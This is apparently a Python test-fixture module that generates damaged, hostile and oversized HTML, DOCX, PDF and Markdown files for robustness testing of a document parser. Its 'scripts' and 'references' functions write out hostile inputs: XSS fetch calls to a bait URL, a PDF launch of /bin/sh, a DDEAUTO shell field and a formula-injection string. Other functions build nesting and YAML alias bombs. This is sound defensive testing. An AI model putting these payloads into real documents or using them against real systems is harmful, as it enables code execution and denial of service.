"""Web pages that are damaged, hostile or odd, and what DOCX and PDF have of the same kinds."""

from __future__ import annotations

import random
from collections.abc import Callable

from odd_damage import PROSE, Bait, Drawn, damage
from odd_pdfs import acting, deep_pages, many_pages, nested_values, pdf_of
from odd_word_files import paragraph, relation, with_parts, word_file, word_file_of

PAGE = (
    "<!doctype html><html lang=en><head><meta charset=utf-8><title>Kenya at work</title>"
    '<meta name="citation_publication_date" content="2018/06/01">'
    '<script type="application/ld+json">{"headline": "Kenya", "datePublished": "2018-06-01", '
    '"author": [{"name": "Ada"}]}</script></head><body><main><h1>Kenya at work</h1>'
    + "".join(f"<p>{sentence}</p>" for sentence in PROSE)
    + "<table><caption>Population in millions</caption><tr><th>Country<th>2015<tr><td>Kenya<td>47"
    "</table><ul><li>5 million in 1990<li>7 million in 2000</ul>"
    "<p>10<sup>9</sup> people &amp; more</p></main></body></html>"
)


def damaged(chance: random.Random, number: int, bait: Bait) -> Drawn:
    """A page with bytes changed; in every second one its tags moved about."""
    if number % 2:
        return ".html", damage(PAGE.encode(), chance)
    pieces = PAGE.split("<")
    for _ in range(chance.randint(1, 20)):
        at, to = chance.randrange(1, len(pieces)), chance.randrange(1, len(pieces))
        pieces[at], pieces[to] = pieces[to], pieces[at]
        pieces.insert(chance.randrange(1, len(pieces)), chance.choice(pieces))
    return ".html", "<".join(pieces).encode()


def scripts(chance: random.Random, number: int, bait: Bait) -> Drawn:
    """What would run if it were let: in a page, in names, in a PDF, in fields of a DOCX."""
    ask = f"fetch('{bait.url}/script')"
    match number % 10:
        case 0:
            return ".html", PAGE.replace("<h1>", f"<script>{ask};while(1);</script><h1>").encode()
        case 1:
            return ".html", PAGE.replace("<h1>", f'<h1 onclick="{ask}">').encode()
        case 2:
            page = PAGE.replace("Kenya", f"&lt;script&gt;{ask}&lt;/script&gt;")
            return ".html", page.encode()
        case 3:
            words = f"<script>{ask}</script> {PROSE[0]} <img src={bait.url}/x onerror={ask}>"
            return ".txt", words.encode()
        case 4:
            head = f"---\ntitle: '<img src={bait.url}/title onerror={ask}>'\nauthor: '<b>Ada'\n---"
            return ".md", f"{head}\n\n{PROSE[0]} [x](javascript:{ask})\n".encode()
        case 5:
            return ".pdf", acting(f"/JavaScript /JS (app.launchURL\\('{bait.url}/js'\\);)")
        case 6:
            return ".pdf", acting("/Launch /F (/bin/sh) /P (-c id)")
        case 7:
            field = (
                '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r>'
                '<w:instrText>DDEAUTO "/bin/sh" "-c id"</w:instrText></w:r>'
                '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
                f'<w:r><w:t>{PROSE[0]}</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
            )
            return ".docx", word_file_of(body=field)
        case 8:
            return ".docx", with_parts(word_file(), {"word/vbaProject.bin": b"\xd0\xcf" * 5_000})
    words = "&lt;script&gt;alert(1)&lt;/script&gt; =cmd|' /C calc'!A0 47 million people in Kenya"
    return ".docx", word_file_of(body=paragraph(words))


def references(chance: random.Random, number: int, bait: Bait) -> Drawn:
    """What would be fetched if it were let."""
    url = bait.url
    in_pages = (
        f'<img src="{url}/a.png" srcset="{url}/b.png 2x">',
        f'<link rel=stylesheet href="{url}/a.css"><style>@import "{url}/b.css";</style>',
        f'<script src="{url}/a.js"></script><iframe src="{url}/a.html"></iframe>',
        f'<meta http-equiv=refresh content="0;url={url}/a"><base href="{url}/">',
        f'<object data="{url}/a.svg"></object><embed src="{url}/a.swf"><video src="{url}/a.mp4">',
        f'<form action="{url}/a"><input name=x></form><a ping="{url}/p" href="{url}">5%</a>',
        f'<svg><image href="{url}/a.png"/><use href="{url}/b.svg#x"/></svg>',
        f'<link rel="prefetch preconnect" href="{url}/"><link rel=canonical href="{url}/c">',
    )
    if number % 20 < 8:
        return ".html", PAGE.replace("<h1>", f"{in_pages[number % 8]}<h1>").encode()
    if number % 20 < 14:
        kind = ("image", "attachedTemplate", "aFChunk", "hyperlink", "oleObject", "frame")[
            number % 6
        ]
        used = f'<w:p><w:altChunk r:id="rId{kind}"/><w:r><w:t>{PROSE[0]}</w:t></w:r></w:p>'
        used += f'<w:p><w:r><w:drawing><a:blip r:link="rId{kind}"/></w:drawing></w:r></w:p>'
        return ".docx", word_file_of(body=used, relations=relation(kind, f"{url}/{kind}"))
    match number % 20:
        case 14:
            return ".pdf", acting(f"/URI /URI ({url}/uri)")
        case 15:
            return ".pdf", acting(f"/SubmitForm /F << /FS /URL /F ({url}/form) >>")
        case 16:
            return ".pdf", acting(f"/GoToR /F << /FS /URL /F ({url}/file.pdf) >> /D [0 /Fit]")
        case 17:
            form = f"/AcroForm << /XFA [(template) 6 0 R] /Fields [] >> /URI << /Base ({url}/) >>"
            xfa = f'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><a href="{url}/xfa"/></xdp:xdp>'
            return ".pdf", pdf_of(catalog=form, xmp=xfa)
        case 18:
            words = f"![5%]({url}/image.png) <img src={url}/b.png> {PROSE[0]} [r]: {url}/c"
            return ".md", words.encode()
    core = f'<x xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="{url}/core"/></x>'
    return ".docx", with_parts(word_file(), {"docProps/core.xml": core.encode()})


def nested(chance: random.Random, number: int, bait: Bait) -> Drawn:
    """One in another, thousands deep."""
    ending, make = _NESTED[number % len(_NESTED)]
    made = make(PROSE[0])
    return ending, made if isinstance(made, bytes) else made.encode()


def _deep_linked_data(text: str) -> str:
    linked = '{"@graph": ' + "[" * 90_000 + "]" * 90_000 + "}"
    script = f'<script type="application/ld+json">{linked}</script>'
    return PAGE.replace("</head>", f"{script}</head>")


_NESTED: tuple[tuple[str, Callable[[str], str | bytes]], ...] = (
    (".html", lambda text: f"<!doctype html>{'<div>' * 20_000}{text}"),
    (".html", lambda text: f"<!doctype html>{'<table><tr><td>' * 5_000}{text}"),
    (".html", lambda text: f"<!doctype html>{'<ul><li>5 million ' * 5_000}{text}"),
    (".html", lambda text: f"<!doctype html><p>{'<b><i><sup>' * 20_000}{text}"),
    (".html", _deep_linked_data),
    (
        ".docx",
        lambda text: word_file_of(body=_within("w:tbl><w:tr><w:tc", 200, paragraph(text))),
    ),
    (
        ".docx",
        lambda text: word_file_of(body=_within("w:sdt><w:sdtContent", 120, paragraph(text))),
    ),
    (".docx", lambda text: word_file_of(body=_within("w:ins", 50_000, paragraph(text)))),
    (".pdf", lambda text: deep_pages(20_000)),
    (".pdf", lambda text: deep_pages(3)),
    (".pdf", lambda text: nested_values(50_000)),
    (".md", lambda text: f"{'> ' * 50_000}{text}"),
    (".md", lambda text: f"{'- ' * 20_000}{text}\n\n{'[' * 50_000}"),
    (".txt", lambda text: "(" * 50_000 + text + ")" * 50_000 + "“" * 20_000),
)


def _within(tags: str, depth: int, inner: str) -> str:
    closing = "><".join(f"/{tag}" for tag in reversed(tags.split("><")))
    return f"<{tags}>" * depth + inner + f"<{closing}>" * depth


def huge(chance: random.Random, number: int, bait: Bait) -> Drawn:
    """Much of one thing."""
    row = "<tr><td>Kenya<td>47 million<td>2015</tr>"
    match number % 10:
        case 0:
            return ".html", f"<!doctype html><table>{row * 50_000}</table>".encode()
        case 1:
            cells = "".join(f"<td>{n}" for n in range(100_000))
            return ".html", f"<!doctype html><table><tr>{cells}</table>".encode()
        case 2:
            cell = f"<w:tc>{paragraph('47')}</w:tc>"
            return ".docx", word_file_of(
                body=f"<w:tbl>{f'<w:tr>{cell * 10}</w:tr>' * 3_000}</w:tbl>"
            )
        case 3:
            return ".docx", word_file_of(body=paragraph(" ".join(PROSE) * 10_000))
        case 4:
            return ".txt", (" ".join(PROSE) * 10_000).encode()
        case 5:
            return ".txt", (" ".join(PROSE).replace(". ", "; ") * 5_000).encode()
        case 7:
            return ".md", ("| Kenya | 47 |\n" * 200_000).encode()
        case 6:
            # As many numbers as are read at once, and of the dearest kind: figures of prose.
            return ".txt", (" ".join(PROSE) * 2_200).encode()
        case 8:
            return ".pdf", many_pages(401)
    return ".pdf", many_pages(390)


def metadata(chance: random.Random, number: int, bait: Bait) -> Drawn:
    """What a file says of itself, endless, false or none."""
    long = "x" * 2_000_000
    match number % 10:
        case 0:
            return ".html", PAGE.replace("Kenya at work</title>", f"{long}</title>").encode()
        case 1:
            return ".html", PAGE.replace("2018/06/01", "2018-99-99").replace(
                "2018-06-01", "0"
            ).encode()
        case 2:
            return ".html", PAGE.replace("lang=en", f'lang="{"e" * 100_000}"').encode()
        case 3:
            return ".html", PAGE.replace(
                '"headline": "Kenya"', '"headline": {"a": [NaN, 1e999]}'
            ).encode()
        case 4:
            core = _core(f"<d:title>{long}</d:title><d:creator>{';' * 100_000}</d:creator>")
            return ".docx", with_parts(word_file(), {"docProps/core.xml": core})
        case 5:
            core = _core(
                "<d:title>\n\t</d:title><d:date>9999-12-31</d:date><d:language>??</d:language>"
            )
            return ".docx", with_parts(word_file(), {"docProps/core.xml": core})
        case 6:
            return ".pdf", pdf_of(info="/Title (\\) \\( ) /CreationDate (D:99999999999999+99'99')")
        case 7:
            return ".pdf", pdf_of(info=f"/Title ({long}) /Subject (doi:10.1/{'(' * 0})")
        case 8:
            return ".md", f"---\ntitle: {long}\ndate: 2018-02-31\n---\n\n{PROSE[0]}\n".encode()
    return (
        ".md",
        f"---\n{'a: &a [*a, *a]' * 1_000}\n---\n\n{PROSE[0]}\ndoi:10.1234/{'a.' * 50_000}".encode(),
    )


def _core(inner: str) -> bytes:
    return (
        '<c:coreProperties xmlns:c="c" xmlns:d="http://purl.org/dc/elements/1.1/">'
        f"{inner}</c:coreProperties>"
    ).encode()
